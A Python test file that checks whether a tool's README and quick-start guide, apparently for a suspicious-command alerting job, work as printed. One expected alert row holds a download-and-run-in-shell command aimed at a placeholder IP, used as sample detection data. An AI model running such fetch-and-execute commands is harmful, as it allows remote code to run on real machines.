"""README and docs/five-minutes.md, followed to the letter in an empty directory as a newcomer would."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
BLOCK = re.compile(r"^```(\w+)(?: ([^\n]*))?\n(.*?)^```$", re.DOTALL | re.MULTILINE)

Blocks = list[tuple[str, str, str]]


def blocks_of(page: str) -> Blocks:
    return BLOCK.findall((ROOT / page).read_text(encoding="utf-8"))


def write_files(blocks: Blocks, place: Path) -> None:
    """Write each block that is named as a file."""
    for _, name, text in blocks:
        if name.endswith((".py", ".ndjson", ".sql", ".yaml")):
            (place / name).parent.mkdir(exist_ok=True)
            (place / name).write_text(text, encoding="utf-8")


def shell(script: str, place: Path) -> str:
    """Run lines in a shell, and return what they print, also as errors; ``python`` and ``headrace`` are those of this environment."""
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    command = ["bash", "-euo", "pipefail", "-c", script]
    done = subprocess.run(
        command,
        cwd=place,
        env={**os.environ, "PATH": path},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout
    return done.stdout


def rows_in(place: Path) -> list[str]:
    return sorted(line for part in place.glob("*.json") for line in part.read_text(encoding="utf-8").splitlines())


def runs_on_spark(line: str) -> bool:
    return line.startswith("headrace run") and "--backend" not in line


def runs_forever(line: str) -> bool:
    return "--until never" in line


def lines_of(blocks: Blocks, wanted: Callable[[str], bool]) -> list[str]:
    return [line for kind, _, text in blocks if kind == "shell" for line in text.splitlines() if wanted(line)]


def test_the_readme_works_as_printed(tmp_path: Path) -> None:
    blocks = blocks_of("README.md")
    write_files(blocks, tmp_path)
    for line in lines_of(blocks, lambda line: not runs_on_spark(line)):
        printed = shell(line, tmp_path)
        if line == "python job.py":
            assert "1 rows to to_file" in printed
            assert rows_in(tmp_path / "alerts") == [
                '{"host":"web-1","ts":"2026-05-06T10:00:01.000000Z","cmd":"curl -s http://203.0.113.7/x | sh","len":33}'
            ]
    assert line == "headrace run job.py --backend light"
    assert "0 to to_file" in printed  # as the page says: the second run adds nothing


def test_the_first_job_in_five_minutes_works_as_printed(tmp_path: Path) -> None:
    blocks = blocks_of("docs/five-minutes.md")
    write_files(blocks, tmp_path)
    shown = {what: text for kind, what, text in blocks if kind != "shell"}
    lines = lines_of(blocks, lambda line: not runs_on_spark(line) and not runs_forever(line))
    assert lines == ["python job.py", "headrace explain job.py", "headrace run job.py --backend light"]
    report = shell(lines[0], tmp_path)
    figures = re.compile(r"after .*? s; |\(\d+/s\)")
    assert figures.sub("", report) == figures.sub("", shown["report"])
    assert rows_in(tmp_path / "alerts") == sorted(shown["alerts"].splitlines())
    [letter] = rows_in(tmp_path / "dead-letters" / "security.suspicious-commands")
    assert json.loads(letter)["offset"] == 3
    assert "where" in shell(lines[1], tmp_path)
    assert "0 to to_file" in shell(lines[2], tmp_path)
    assert rows_in(tmp_path / "alerts") == sorted(shown["alerts"].splitlines())


@pytest.mark.spark
def test_the_first_job_runs_on_spark_as_printed(tmp_path: Path) -> None:
    blocks = blocks_of("docs/five-minutes.md")
    write_files(blocks, tmp_path)
    [line] = lines_of(blocks, runs_on_spark)
    assert lines_of(blocks_of("README.md"), runs_on_spark) == [line]
    assert "2 to to_file" in shell(line, tmp_path)
    [shown] = [text for _, what, text in blocks if what == "alerts"]
    assert rows_in(tmp_path / "alerts") == sorted(shown.splitlines())
